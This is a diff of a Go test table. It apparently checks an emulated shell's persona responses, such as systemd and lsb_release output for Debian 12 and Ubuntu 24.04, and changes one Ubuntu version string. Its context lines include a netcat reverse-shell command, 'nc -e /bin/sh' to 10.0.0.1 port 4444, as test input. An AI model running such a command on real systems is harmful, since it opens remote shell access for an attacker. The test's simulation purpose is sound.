@@ -32,7 +32,7 @@ func TestProgsPersonaVersions(t *testing.T) {
 		{OSDebian12, "systemctl --version | head -1", "systemd 252 (252.39-1~deb12u2)\n", ""},
 		{OSUbuntu2404, "systemctl --version | head -1", "systemd 255 (255.4-1ubuntu8.6)\n", ""},
 		{OSDebian12, "lsb_release -a", "Distributor ID:\tDebian\nDescription:\tDebian GNU/Linux 12 (bookworm)\nRelease:\t12\nCodename:\tbookworm\n", ""},
-		{OSUbuntu2404, "lsb_release -a", "Distributor ID:\tUbuntu\nDescription:\tUbuntu 24.04.5 LTS\nRelease:\t24.04\nCodename:\tnoble\n", ""},
+		{OSUbuntu2404, "lsb_release -a", "Distributor ID:\tUbuntu\nDescription:\tUbuntu 24.04.4 LTS\nRelease:\t24.04\nCodename:\tnoble\n", ""},
 		{OSUbuntu2404, "lsb_release -cs", "noble\n", ""},
 		{OSUbuntu2404, "nc -v 10.0.0.1 4444 || echo refused", "refused\n", "nc: connect to 10.0.0.1 port 4444 (tcp) failed: Connection refused\n"},
 		{OSUbuntu2404, "nc -e /bin/sh 10.0.0.1 4444 || true", "", "nc: invalid option -- 'e'\n" + ncOpenBSDUsage},
